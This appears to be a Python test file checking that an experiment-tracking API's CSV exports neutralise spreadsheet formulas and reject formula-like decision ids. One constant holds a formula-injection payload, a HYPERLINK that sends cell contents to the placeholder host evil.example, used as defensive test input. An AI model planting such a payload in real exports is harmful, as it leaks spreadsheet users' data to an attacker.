"""Exports open safely in a spreadsheet: no cell is a live formula, and a client cannot choose
a decision id that would be one."""

from __future__ import annotations

import csv
import io

from tests.api.conftest import Stack, endorse_by_round, experiment_body, open_session, projected
from tests.api.test_contract import PLAN, decide, start
from tests.api.test_webhooks import delivery, in_act

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bekijk bijlage")'


async def test_formula_cells_in_both_exports_are_text(stack: Stack) -> None:
    eid = (await start(stack, title="+ gratis energiecoach"))["id"]
    await decide(stack, eid, {**PLAN, "rationale": "-1 bezwaar"})
    last = await endorse_by_round(stack, eid, rationale=FORMULA)
    api = await stack.client.get(
        f"/v1/experiments/{eid}/decisions",
        params={"min_position": last["position"]},
        headers={**stack.auth("pm"), "Accept": "text/csv"},
    )
    await open_session(stack, "pm")
    try:
        page = await stack.client.get(f"/experiments/{eid}/decisions.csv")
    finally:
        stack.client.cookies.clear()
    for export in (api, page):
        assert export.status_code == 200
        rows = list(csv.reader(io.StringIO(export.text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'" + FORMULA in cells
        assert "'-1 bezwaar" in cells


async def test_a_decision_id_that_could_be_a_formula_is_refused(stack: Stack) -> None:
    refused = await stack.client.post(
        "/v1/experiments",
        json=experiment_body(),
        headers={**stack.auth("pm"), "Idempotency-Key": "=2*3"},
    )
    assert refused.status_code == 422
    assert refused.json()["error"]["field"] == "decision_id"
    eid = await in_act(stack)
    secret = stack.integrations.create("formula-probe", "utrecht")
    raw, headers = delivery(
        secret,
        {
            "experiment_id": eid,
            "decision": {"type": "record_finding", "text": "x", "source": "data"},
        },
        msg_id="=2*3",
    )
    answer = await stack.client.post("/v1/webhooks/formula-probe", content=raw, headers=headers)
    assert answer.status_code == 422
    await projected(stack, eid)
    history = await stack.client.get(f"/v1/experiments/{eid}/decisions", headers=stack.auth("pm"))
    assert all(d["decision_id"] != "=2*3" for d in history.json()["items"])
    for fine in ("msg_2KWPBgLlAfxdpx2AI54pPJ85f4W", "3f1c0e4e-8d1a-4c55-9d7e-2b7c1f0a9e10"):
        ok = await stack.client.post(
            "/v1/experiments",
            json=experiment_body(),
            headers={**stack.auth("pm"), "Idempotency-Key": fine},
        )
        assert ok.status_code == 201, ok.text
